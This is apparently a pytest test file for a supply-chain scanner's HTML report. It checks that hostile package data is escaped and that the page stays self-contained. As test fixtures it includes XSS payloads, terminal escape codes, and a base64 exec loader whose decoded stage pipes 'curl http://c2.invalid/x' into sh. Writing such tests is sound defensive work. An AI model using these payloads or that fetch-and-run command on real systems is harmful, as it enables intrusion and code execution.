"""The single-file HTML report: self-contained, every hostile string rendered as text."""

from __future__ import annotations

import datetime as dt
import re
import shutil
import subprocess
from html.parser import HTMLParser

import pytest
from report_builders import HOSTILE, SCRIPT_FILE, empty, finding, hostile, sample, verdict_for, wheel_result

from chainwarden import rules
from chainwarden.models import ScanReport
from chainwarden.policy import Ignore
from chainwarden.report import html as html_report
from chainwarden.report import render

ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "header", "footer", "nav", "section", "article", "div",
    "span", "h1", "h2", "h3", "p", "ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th",
    "td", "code", "pre", "strong", "details", "summary", "a",
}


class Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []
        self.text: list[str] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(tag, k, v) for k, v in attrs]
        self._in_style = tag == "style"

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        (self.styles if self._in_style else self.text).append(data)


def page_of(report: ScanReport, **kwargs) -> tuple[str, Page]:
    text = render(report, verdict_for(report, **kwargs), "html")
    page = Page()
    page.feed(text)
    page.close()
    return text, page


def assert_self_contained(page: Page) -> None:
    assert set(page.tags) <= ALLOWED_TAGS, set(page.tags) - ALLOWED_TAGS
    for tag, name, value in page.attrs:
        assert not name.startswith("on"), (tag, name)
        assert name not in ("src", "srcset", "action", "formaction", "background", "style"), (tag, name)
        if name == "href":
            assert tag == "a"
            assert value is not None
            assert value.startswith(("#", "https://")), value  # in-page anchors and the rule catalogue's references
    css = "".join(page.styles)
    assert "url(" not in css
    assert "@import" not in css
    metas = {(v or "") for t, k, v in page.attrs if t == "meta" and k == "content"}
    assert html_report.CSP in metas


def test_script_file_name_renders_as_text():
    text, page = page_of(hostile())
    assert "<script" not in text.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;.py" in text
    assert f"{SCRIPT_FILE}:1" in "".join(page.text)
    assert "script" not in page.tags
    assert_self_contained(page)


def test_every_hostile_field_is_escaped():
    text, page = page_of(hostile())
    assert "<img" not in text
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert "\udcff" not in text
    shown = "".join(page.text)
    for piece in ("message ", "snippet ", "preview ", "method ", "cap ", "key ", "value ", "reason ", "error ", "name "):
        assert f"{piece}<script>alert(1)</script>\\x1b[2J" in shown, piece
    assert "</pre></details><img src=x onerror=alert(2)>" in shown
    assert_self_contained(page)


def test_sections_per_package_with_evidence():
    ignore = Ignore("CW101", "reviewed in SEC-1", dt.date(2027, 1, 31))
    text, page = page_of(sample(), ignores=(ignore,))
    assert_self_contained(page)
    shown = "".join(page.text)
    assert text.count('<section class="package"') == 3
    assert shown.index("evilpkg 1.0") < shown.index("okpkg 2.0")
    assert "Blocked: 1 finding(s) at or above high" in shown
    assert "runs at: interpreter-start" in shown
    assert "evilpkg_init.pth:1" in shown
    assert "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))" in shown
    assert "Decoded stages (2)" in shown
    assert "os.system('curl http://c2.invalid/x | sh')" in shown
    assert "network" in shown
    assert "reviewed in SEC-1 (until 2027-01-31)" in shown
    assert "Not scanned (1)" in shown
    assert "larger than the 1 GiB member limit" in shown
    assert "nosuchpkg==9.9: not found on the index" in shown
    assert rules.get("CW102").title in shown


def test_unknown_rule_and_empty_report():
    _, page = page_of(ScanReport("0.1.0", "", (wheel_result((finding("CWX999"),)),)))
    assert "CWX999" in "".join(page.text)
    text, page = page_of(empty())
    assert_self_contained(page)
    assert "Nothing was scanned." in "".join(page.text)
    assert re.search(r"<title>chainwarden report: passed</title>", text)


def test_hostile_is_really_hostile():
    assert "<script>" in HOSTILE  # guards the tests above against a defanged fixture


@pytest.mark.browser
@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs Debian's chromium")
def test_real_browser_shows_the_script_name_as_text(tmp_path):
    """Chromium parses the page: no script element exists and the file name is plain text."""
    page = tmp_path / "report.html"
    page.write_text(render(hostile(), verdict_for(hostile()), "html"), encoding="utf-8")
    dom = subprocess.run(
        ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", page.as_uri()],
        capture_output=True, text=True, timeout=120, check=True,
    ).stdout
    parsed = Page()
    parsed.feed(dom)
    assert "script" not in parsed.tags
    assert "img" not in parsed.tags
    assert f"{SCRIPT_FILE}:1" in "".join(parsed.text)
